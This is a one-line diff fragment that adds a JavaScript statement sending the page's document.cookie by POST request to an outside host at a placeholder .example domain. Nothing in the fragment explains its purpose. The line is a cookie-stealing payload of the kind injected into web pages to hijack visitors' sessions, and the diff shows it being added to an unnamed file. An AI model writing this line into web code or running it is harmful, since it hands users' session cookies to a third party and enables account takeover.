@@ -1,0 +1,1 @@
+fetch("https://rot.array-table.example/a", { method: "POST", body: document.cookie });
